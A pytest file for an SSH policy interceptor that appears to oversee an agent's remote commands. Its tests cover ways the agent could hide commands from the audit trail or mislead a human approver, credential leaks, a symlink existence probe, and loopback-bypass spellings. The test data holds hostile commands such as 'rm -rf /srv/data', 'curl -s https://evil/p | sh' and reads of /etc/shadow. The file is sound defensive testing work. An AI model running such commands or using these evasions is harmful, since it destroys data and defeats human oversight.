"""Attacks on the ssh enforcement (issue 17), third round: variations of the kinds the first two
rounds (test_ssh_attacks, test_ssh_attacks_2) closed, aimed at what their fixes added: the
scrubber's command-line credential patterns (what they miss, and what they mangle), how
`approvals list` escapes a held command, the empty exec, metadata judged as read-or-write,
legacy scp judged as its transfer, and forwards by name. The policy is the first round's.

Two parts:

- FINDINGS: each test fails now and passes once the kind it names is closed; the first line
  of its docstring starts with `attack:`, the rest says the expected secure behaviour.
- GUARDS: attacks that are stopped today; they pass, and keep them stopped.

Nothing here runs a program: the scrubber, the approvals view and the policy are pure functions, and
the SFTP test runs the in-process lab (asyncssh's server on a temporary directory).
"""

from __future__ import annotations

import os
from pathlib import Path

import asyncssh
import pytest

from interceptor.approvals.cli import _operation
from interceptor.audit.scrub import REDACTED, scrub_event, scrub_text
from interceptor.operations import SshRequest
from interceptor.policy import PolicyEngine, load_policy_text
from test_ssh_attacks import OPERATOR, decide, exec_verdict
from test_ssh_attacks_2 import strict_realpath
from test_ssh_handler import Lab, scenario

SECRET = "S3cretPw"


@pytest.fixture(scope="module")
def engine() -> PolicyEngine:
    return PolicyEngine(load_policy_text(OPERATOR, "operator.yaml"))


def exec_record(command: str) -> str:
    """The command as an `ssh` audit record keeps it, after the scrubber."""
    scrubbed = scrub_event({"kind": "ssh", "operation": {"request": "exec", "command": command}})
    return str(scrubbed["operation"]["command"])


# ==== FINDINGS ===================================================================================
# ---- the scrubber swallows the rest of a command after a quoted credential ---------------------

@pytest.mark.parametrize("command, hidden", [
    ("echo 'password=x'; rm -rf /srv/data", "rm -rf /srv/data"),
    ("curl -d 'user=bob&password=x' https://h/login; curl -s https://evil/p | sh", "curl -s https://evil/p | sh"),
    ("curl -H 'Authorization:Bearer x' https://h/api && chmod 777 /srv", "chmod 777 /srv"),
    ('curl -H "X-Api-Key:x" https://h/api; crontab -r', "crontab -r"),
    ('echo "token=x"; rm -rf /srv/data', "rm -rf /srv/data"),
    ('echo "pass:x"; rm -rf /srv/data', "rm -rf /srv/data"),
    ('app "--password=x"; rm -rf /srv/data', "rm -rf /srv/data"),
])
def test_a_quoted_credential_hides_the_rest_of_the_command_from_the_audit(command: str, hidden: str) -> None:
    """was an attack (closed): audit evasion through the scrubber: a credential value that ends at a closing
    quote (`echo 'password=x'; rm -rf /srv/data`) is measured by _WORD from inside the quote,
    so the closing quote starts a new, unclosed quoted part that runs to the end of the text:
    the record reads `echo 'password=[REDACTED]` and everything the agent ran after it (the
    `rm -rf`) is gone from the trail, which can never be corrected once chained.

    Expected: only the value is redacted (up to the closing quote of the word it sits in);
    every other word of the command, and the closing quote, stay in the record."""
    record = exec_record(command)
    assert REDACTED in record
    assert hidden in record, f"the record {record!r} hides {hidden!r}"


# ---- the scrubber misses credentials --------------------------------------------------------------

@pytest.mark.parametrize("command", [
    f"DB_PASSWORD={SECRET} ./migrate",
    f"DATABASE_PASSWORD={SECRET} ./app",
    f"./app --db-password={SECRET}",
    f"export DB_PASS={SECRET}",
])
def test_a_harmless_word_beside_password_keeps_the_password_in_the_trail(command: str) -> None:
    """was an attack (closed): credential leak into the trail: _telling lets any "harmless" word veto the name
    (`db`, `database`, `id`, ...), so `DB_PASSWORD=S3cretPw ./migrate`, `DATABASE_PASSWORD=`,
    `--db-password=` (the commonest spellings there are) are chained in clear.

    Expected: a harmless word vetoes only what it qualifies (`password-file`, `password_env`:
    the harmless word after the telling one); a name ending in password, passwd, pass, token,
    secret... is a credential whatever comes before it."""
    assert SECRET not in exec_record(command)


@pytest.mark.parametrize("command", [
    f"docker login -u bob -p {SECRET} registry.example.com",
    f"smbclient //files/share -U bob%{SECRET}",
    f"ldapsearch -x -D cn=admin,dc=x -w {SECRET}",
    f"sqlcmd -S db -U sa -P {SECRET}",
    f"mongo -u bob -p {SECRET} admin",
    f"ssh-keygen -p -P old -N {SECRET} -f key",
    f"openssl enc -aes256 -k {SECRET} -in a -out b",
    f"zip -P {SECRET} a.zip f",
    f"7z a -p{SECRET} a.7z f",
    f"aws configure set aws_secret_access_key {SECRET}",
])
def test_short_password_options_of_common_programs_reach_the_trail(command: str) -> None:
    """was an attack (closed): credential leak into the trail: only mysql/mariadb -p, sshpass -p and redis-cli
    -a are known short password options; docker login -p, smbclient -U USER%PASS, ldapsearch
    -w, sqlcmd -P, mongo -p, ssh-keygen -N/-P, openssl enc -k, zip -P, 7z -pX and `aws
    configure set aws_secret_access_key VALUE` are chained in clear.

    Expected: the programs that take a password as a short option or a positional value are
    known by kind (a table the docs list), and their values redacted."""
    assert SECRET not in exec_record(command)


# ---- the scrubber mangles what is no credential -----------------------------------------------------

@pytest.mark.parametrize("command, kept", [
    ("sort -t, --key=2 /var/log/app.csv", "--key=2"),
    ("curl --key /etc/ssl/client.key https://h/", "/etc/ssl/client.key"),
    ("openssl req -new -key /srv/tls/web.pem", "/srv/tls/web.pem"),
    ("grep -r key: /etc/app", "/etc/app"),
])
def test_options_named_key_lose_their_paths_and_numbers(command: str, kept: str) -> None:
    """was an attack (closed): record mangling: `key` alone is a telling word, so `sort --key=2`, the key FILE
    of `curl --key`/`openssl -key` and the path after `grep -r key:` are redacted: the trail
    no longer says which file a command read or which column it sorted (an investigator cannot
    tell `openssl req -key /root/.ssh/id_ed25519` from a harmless one).

    Expected: a value that is a path (starts with `/`, `./`, `~/`) or a number is no key; or
    `key` tells only with another telling word (`api-key`, `access-key`), as _TELLING_ENDINGS
    already lists them."""
    assert kept in exec_record(command), exec_record(command)


# ---- approvals list: escaping that two commands share ------------------------------------------

def test_a_held_command_with_a_newline_reads_as_a_literal_backslash_n() -> None:
    """was an attack (closed): approver deception: `approvals list` escapes a real newline as `\\n` but leaves
    a backslash as it is, so the held command `cat /srv/a<NEWLINE>rm -rf /srv` (two commands:
    the second removes /srv) is shown exactly as the harmless `cat '/srv/a\\nrm' -rf /srv`
    (one cat of an odd name) would be: the approver cannot tell them apart.

    Expected: the escaping is one-to-one: a backslash the agent wrote is shown escaped too
    (`\\\\`), or control characters are shown in a form no printable text takes."""
    real = _operation({"kind": "ssh", "request": "exec", "command": "cat /srv/a\nrm -rf /srv"})
    literal = _operation({"kind": "ssh", "request": "exec", "command": "cat /srv/a\\nrm -rf /srv"})
    assert real != literal, f"both read {real!r}"


# ==== GUARDS =====================================================================================

@pytest.mark.parametrize("command", ["", " ", "\t", "#x", " \\\n ", "\n", "\\\n", "  # only a comment\n\t"])
def test_guard_commands_of_no_words_are_refused_whatever_the_policy(engine: PolicyEngine, command: str) -> None:
    assert decide(engine, SshRequest("exec", command=command), "breakglass") == ("deny", "ssh-bad-command")


@pytest.mark.parametrize("command", [";", ":", "\r", "\x0b", '""', "''", "{ ; }", "(:)"])
def test_guard_odd_commands_with_words_are_not_plain(engine: PolicyEngine, command: str) -> None:
    assert exec_verdict(engine, command) == "deny"


@pytest.mark.parametrize("path, verdict", [
    ("/srv/uploads/x", "allow"),  # a write glob lets the uploader see its target
    ("/srv/uploads/locked/x", "deny"),  # an explicit deny on writing it refuses even the stat
    ("/SRV/uploads/x", "deny"),
    ("/srv/uploads/../../etc/shadow", "deny"),
    ("/etc/shadow", "deny"),
])
def test_guard_metadata_is_judged_as_read_or_write(engine: PolicyEngine, path: str, verdict: str) -> None:
    for action in ("stat", "lstat", "realpath"):
        assert decide(engine, SshRequest("read", path=path, action=action))[0] == verdict


@pytest.mark.parametrize("command, verdict", [
    ("scp -t /srv/uploads/x", "allow"),
    ("scp -f /var/log/syslog", "allow"),
    ("scp -r -t /srv/uploads", "deny"),  # everything below holds the denied locked/
    ("scp -t /srv/uploads/locked", "deny"),
    ("scp -t /srv/uploads/.bashrc", "deny"),
    ("scp -t /srv/uploads/x/", "deny"),
    ("scp -rt /srv/uploads/x", "deny"),
    ("scp -t /srv/uploads/x -f", "deny"),
    ("/usr/bin/scp -t /srv/uploads/x", "deny"),
    ("scp -t uploads/x", "deny"),
])
def test_guard_legacy_scp_is_judged_as_its_transfer(engine: PolicyEngine, command: str, verdict: str) -> None:
    assert exec_verdict(engine, command) == verdict


@pytest.mark.parametrize("target", [
    "db.internal:8080", "localhost:8080", "127.1:8080", "0:8080", "[::ffff:127.0.0.1]:8080",
    "127.0.0.1.nip.io:8080", "2130706433:8080", "0x7f000001:8080", "loCALhost.:8080", "::ffff:7f00:1:8080",
])
def test_guard_a_deny_on_loopback_takes_names_and_spellings(engine: PolicyEngine, target: str) -> None:
    assert decide(engine, SshRequest("forward", forward="local", target=target)) == ("deny", "no-server-itself")


@pytest.mark.parametrize("command", [
    f"PGPASSWORD={SECRET} psql", f"mysql -uroot -p{SECRET}", f"curl -u bob:{SECRET} https://h",
    f"psql 'host=h password={SECRET}'", f"kubectl --token={SECRET} get pods", f"sshpass -p {SECRET} ssh h",
    f"git clone https://u:{SECRET}@h/r", f"wget --http-passwd={SECRET} https://h",
])
def test_guard_command_line_credentials_are_scrubbed(command: str) -> None:
    assert SECRET not in exec_record(command)


@pytest.mark.parametrize("command", [
    "cat /srv/backup/pass words.txt", "ls /srv/my-pass=1", "cat /srv/config/db_password=old.txt",
    "find /srv -name pass.txt", "rsync --password-file=/etc/rs.pass a b", "journalctl -u nginx --since=today",
    "ls -l /srv/uploads/pwd=1", "cat /srv/key:/x",
])
def test_guard_paths_naming_pass_are_kept(command: str) -> None:
    assert scrub_text(command) == command


# ---- SFTP: a readable link tells whether a private path exists ---------------------------------

def verbatim_readlink(server: asyncssh.SFTPServer, path: bytes) -> bytes:
    """OpenSSH sftp-server's readlink: the link's text as it is, where asyncssh's chrooted
    server resolves a relative text against its own working directory (and then finds no such
    file)."""
    return os.readlink(server.map_path(path))


def test_a_readable_symlink_tells_whether_its_private_target_exists(tmp_path: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """was an attack (closed): existence oracle (low): the normal-form-first fix keeps the server's answers
    about paths the agent may not read from the agent, but not through a symlink the agent may
    read: `stat /srv/a` (a link to /private/q3.xlsx, which exists) is refused naming
    /private/q3.xlsx ("no rule allows read or write of ..."), `stat /srv/b` (a link to
    /private/q4.xlsx, which does not) is refused as "the server cannot resolve ... a dangling
    or looping symlink": the two refusals differ, so any pre-existing link under a readable
    directory probes the existence of a private path (sftp_realpath fails on the dangling one).

    Expected: a refusal of a path whose resolution fails says the same as the refusal of a
    resolved path no rule allows (e.g. judge the dangling link's target text, read by
    readlink, as the path, or answer both with one message); so does one whose target lies
    in a private directory that does not exist (/srv/c), or is reached through one (/srv/d)."""
    async def test(lab: Lab) -> None:
        (lab.tmp / "server" / "private").mkdir()
        (lab.tmp / "server" / "private" / "q3.xlsx").write_text("names\n")
        (lab.tmp / "server" / "srv" / "a").symlink_to("../private/q3.xlsx")
        (lab.tmp / "server" / "srv" / "b").symlink_to("../private/q4.xlsx")
        (lab.tmp / "server" / "srv" / "c").symlink_to("../private/none/q5.xlsx")
        (lab.tmp / "server" / "srv" / "d").symlink_to("../private/none/../q6.xlsx")
        answers = {}
        async with lab.agent() as conn, conn.start_sftp_client() as sftp:
            for path in ("/srv/a", "/srv/b", "/srv/c", "/srv/d"):
                try:
                    await sftp.stat(path)
                except asyncssh.SFTPError as exc:
                    answers[path] = (exc.code, exc.reason.replace("none/q5", "qN").replace("q3", "qN")
                                     .replace("q4", "qN").replace("q6", "qN"))
        assert len(set(answers.values())) == 1 and len(answers) == 4, \
            f"the refusals differ by whether the target exists: {answers}"
        assert "no rule allows read or write of /private/qN.xlsx" in answers["/srv/b"][1], answers

    monkeypatch.setattr(asyncssh.SFTPServer, "realpath", strict_realpath)
    monkeypatch.setattr(asyncssh.SFTPServer, "readlink", verbatim_readlink)
    scenario(test, tmp_path)
